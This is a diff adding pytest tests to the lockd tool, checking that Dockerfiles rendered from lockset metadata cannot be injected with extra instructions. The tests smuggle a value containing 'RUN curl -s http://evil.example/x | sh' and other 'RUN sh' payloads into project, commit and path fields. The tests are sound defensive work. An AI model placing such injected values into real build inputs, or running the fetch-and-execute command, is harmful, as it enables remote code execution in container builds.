@@ -12,12 +12,18 @@ from __future__ import annotations
 import json
 import sys
 from collections.abc import Callable
+from dataclasses import replace
 from pathlib import Path
 
 import pytest
 
+from lockd.errors import FormatError
+from lockd.images._dockerfile import key_values, split_instructions
 from lockd.lint import lint_text, lock_facts
 from lockd.lockfiles.manifest import read_manifest
+from lockd.report.dockerfile import DockerfileSpec, render_dockerfile
+from lockd.settings import Settings
+from lockd.store import Store
 from tests.conftest import Run
 from tests.support.buildah import Buildah, push_base, python_rootfs
 from tests.support.registry import Pusher, Registry
@@ -112,6 +118,75 @@ def test_errors_name_what_is_wrong(
     assert linked.returncode != 0 and "is a symbolic link" in linked.stderr
     outputs = wrong.output + none_recorded.output + changed.output + linked.output
     assert "Traceback" not in outputs
+
+
+INJECTED = '"\nRUN curl -s http://evil.example/x | sh\nLABEL z="$HOME\\'
+
+
+def _instructions(text: str) -> list[tuple[str, str]]:
+    return [(i.keyword, i.arguments) for i in split_instructions(text).instructions]
+
+
+def test_hostile_values_stay_inside_their_label_and_comment() -> None:
+    """Every value of the spec comes from a lockset document: none adds an instruction."""
+    spec = DockerfileSpec(
+        project="app" + INJECTED,
+        lockset="ab" * 32,
+        target="linux-x86_64-py311-cpu" + INJECTED,
+        base_name="python:3.11-slim",
+        base_digest="sha256:" + "1" * 64,
+        lock_path="locks/linux-x86_64-py311-cpu.requirements.txt",
+        wheels_only=True,
+        created="2026-01-01T00:00:00Z" + INJECTED,
+        revision="abc" + INJECTED,
+        lockd_version="1.0\n# escape=`",
+    )
+    text = render_dockerfile(spec)
+    keywords = [keyword for keyword, _ in _instructions(text)]
+    assert keywords.count("RUN") == 2 and keywords.count("LABEL") == 1, keywords
+    assert "curl" not in "".join(args for kw, args in _instructions(text) if kw == "RUN")
+    (label,) = (args for keyword, args in _instructions(text) if keyword == "LABEL")
+    labels = dict(key_values(label))
+    assert labels["org.opencontainers.image.title"] == (
+        'app\\"\\nRUN curl -s http://evil.example/x | sh\\nLABEL z=\\"\\$HOME\\\\'
+    )
+    assert set(labels) >= {"org.opencontainers.image.revision", "dev.lockd.target"}
+    header = text.split("\n\n", 1)[0].splitlines()
+    assert len(header) == 4 and all(line.startswith("#") for line in header), header
+    assert "--project 'app" in header[3]  # the command to copy is shell-quoted
+
+    for hostile in (
+        replace(spec, base_name="python:3.11\nRUN sh"),
+        replace(spec, base_name="python:3.11 AS x"),
+        replace(spec, lock_path="locks/x\nRUN sh"),
+    ):
+        with pytest.raises(FormatError, match="not one printable word"):
+            render_dockerfile(hostile)
+
+
+def test_a_hostile_lockset_document_cannot_inject_instructions(
+    project: LockdRunner, registry: Registry, pusher: Pusher, tmp_path: Path
+) -> None:
+    """A lockset recorded with a hostile git commit: the value stays inside its label."""
+    pusher.image("lockd/python", f"{PY[0]}.{PY[1:]}-slim", salt="hostile")
+    reference = registry.ref("lockd/python", f"{PY[0]}.{PY[1:]}-slim")
+    compiled = read_manifest(tmp_path / "locks" / "lockd.json")
+    assert compiled is not None
+    hostile = replace(
+        compiled,
+        provenance=replace(compiled.provenance, git_commit="abc" + INJECTED),
+        parent=compiled.hash,
+    )
+    url = Settings.from_env({"LOCKD_HOME": str(tmp_path / "lockd-home")}).database_url
+    with Store(url) as store:
+        store.record_lockset(hostile)
+    run = project("dockerfile", "--target", TARGET, "--base", reference, "-o", "Dockerfile")
+    assert run.returncode == 0, run.output
+    text = (tmp_path / "Dockerfile").read_text()
+    assert f'dev.lockd.lockset="{hostile.hash}"' in text
+    keywords = [keyword for keyword, _ in _instructions(text)]
+    assert keywords.count("RUN") == 2 and keywords.count("LABEL") == 1, keywords
+    assert "evil.example" not in "".join(a for k, a in _instructions(text) if k != "LABEL")
 
 
 @pytest.mark.slow
